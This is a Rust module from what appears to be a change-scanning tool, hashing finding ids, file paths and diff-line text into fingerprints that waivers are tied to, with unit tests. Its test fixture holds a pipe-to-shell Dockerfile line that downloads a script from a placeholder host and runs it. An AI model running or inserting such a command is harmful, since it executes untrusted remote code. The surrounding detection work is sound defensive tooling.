//! Content fingerprints of findings, which waivers are tied to.
//!
//! A fingerprint hashes the finding id, the file and the trimmed text of the diff line the
//! finding points at (a finding without such a line uses its subject). Line numbers are left
//! out on purpose: an edit elsewhere in the file keeps the waiver, an edit to the line that
//! fired ends it.

use std::collections::HashMap;
use std::fmt::Write as _;

use sha2::{Digest, Sha256};

use crate::diff::{ChangeSet, FileChange, LineKind};
use crate::policy::FINGERPRINT_PREFIX;
use crate::signal::Signal;

use super::Contribution;

/// The change's files by the path findings name them with, looked up once per finding.
pub(super) struct Files<'a>(HashMap<&'a str, &'a FileChange>);

impl<'a> Files<'a> {
    /// Indexes the files of `change`.
    pub(super) fn of(change: &'a ChangeSet) -> Self {
        Self(change.files.iter().map(|f| (f.path(), f)).collect())
    }
}

/// The fingerprint of `contribution` in the change, or `None` when it has no file, or neither
/// a line in the diff nor a subject to tie it to (a file-wide finding has no content).
pub(super) fn of(files: &Files<'_>, contribution: &Contribution) -> Option<String> {
    let file = contribution.file.as_deref()?;
    let line_text = contribution
        .line
        .and_then(|line| diff_line(files.0.get(file)?, line));
    let anchor = line_text.or(contribution.subject.as_deref())?;
    Some(fingerprint(contribution.signal, file, anchor.trim()))
}

/// `sha256:` and the hex digest of the id, the path and the anchor text, NUL-separated so
/// no two different triples hash the same bytes.
fn fingerprint(signal: Signal, file: &str, anchor: &str) -> String {
    let mut hasher = Sha256::new();
    for part in [signal.id(), file, anchor] {
        hasher.update(part.as_bytes());
        hasher.update([0]);
    }
    hasher
        .finalize()
        .iter()
        .fold(String::from(FINGERPRINT_PREFIX), |mut text, byte| {
            // Writing to a String cannot fail.
            let _ = write!(text, "{byte:02x}");
            text
        })
}

/// The text of `line` in the file's hunks: the new side first (added or context line), else a
/// removed line on the old side.
fn diff_line(changed: &FileChange, line: u32) -> Option<&str> {
    let lines = || changed_lines(changed);
    lines()
        .find(|l| l.new_line == Some(line))
        .or_else(|| lines().find(|l| l.kind == LineKind::Removed && l.old_line == Some(line)))
        .map(|l| l.content.as_str())
}

fn changed_lines(file: &FileChange) -> impl Iterator<Item = &crate::diff::Line> {
    file.hunks.iter().flat_map(|hunk| &hunk.lines)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diff::{FileStatus, Hunk, Line};

    /// The fingerprint of `finding` in `change`.
    fn print(change: &ChangeSet, finding: &Contribution) -> Option<String> {
        of(&Files::of(change), finding)
    }

    /// A change to `path` adding `added` at new lines from `start`, after `context` lines.
    fn change(path: &str, start: u32, added: &[&str]) -> ChangeSet {
        let mut file = FileChange::new(FileStatus::Modified, Some(path.into()), Some(path.into()));
        let lines = added
            .iter()
            .zip(start..)
            .map(|(text, number)| Line {
                kind: LineKind::Added,
                old_line: None,
                new_line: Some(number),
                content: (*text).to_owned(),
            })
            .collect();
        file.hunks.push(Hunk {
            old_start: start,
            old_lines: 0,
            new_start: start,
            new_lines: u32::try_from(added.len()).unwrap(),
            lines,
        });
        ChangeSet {
            files: vec![file],
            ..ChangeSet::default()
        }
    }

    fn finding(line: Option<u32>, subject: Option<&str>) -> Contribution {
        Contribution {
            signal: Signal::PipeToShell,
            file: Some("Dockerfile".into()),
            line,
            subject: subject.map(str::to_owned),
            points: 1.0,
            message: String::new(),
            arithmetic: String::new(),
            fingerprint: None,
            waived_by: None,
        }
    }

    const CURL: &str = "RUN curl -s https://x.invalid/i.sh | sh";

    /// The same line moved down the file keeps its fingerprint; indentation does not count.
    #[test]
    fn moving_a_line_keeps_the_fingerprint() {
        let here = print(&change("Dockerfile", 3, &[CURL]), &finding(Some(3), None)).unwrap();
        let moved = print(
            &change("Dockerfile", 40, &["# new", &format!("  {CURL}  ")]),
            &finding(Some(41), None),
        )
        .unwrap();
        assert_eq!(here, moved);
        assert!(
            here.starts_with("sha256:") && here.len() == 7 + 64,
            "{here}"
        );
    }

    /// Editing the line that fired changes the fingerprint; so do another file or id.
    #[test]
    fn editing_the_line_changes_the_fingerprint() {
        let before = print(&change("Dockerfile", 3, &[CURL]), &finding(Some(3), None));
        let edited = print(
            &change("Dockerfile", 3, &[&CURL.replace("i.sh", "j.sh")]),
            &finding(Some(3), None),
        );
        assert_ne!(before, edited);
        let mut other_id = finding(Some(3), None);
        other_id.signal = Signal::SecretAdded;
        assert_ne!(before, print(&change("Dockerfile", 3, &[CURL]), &other_id));
        let mut other_file = finding(Some(3), None);
        other_file.file = Some("b/Dockerfile".into());
        assert_ne!(
            before,
            print(&change("b/Dockerfile", 3, &[CURL]), &other_file)
        );
    }

    /// Without a diff line the subject anchors the fingerprint; with neither there is none.
    #[test]
    fn findings_without_a_line_use_the_subject() {
        let set = change("Dockerfile", 3, &[CURL]);
        let by_subject = print(&set, &finding(None, Some("build"))).unwrap();
        assert_eq!(
            by_subject,
            print(&set, &finding(Some(99), Some("build"))).unwrap()
        );
        assert_ne!(
            by_subject,
            print(&set, &finding(None, Some("deploy"))).unwrap()
        );
        assert_eq!(print(&set, &finding(None, None)), None);
        let mut no_file = finding(Some(3), None);
        no_file.file = None;
        assert_eq!(print(&set, &no_file), None);
    }
}
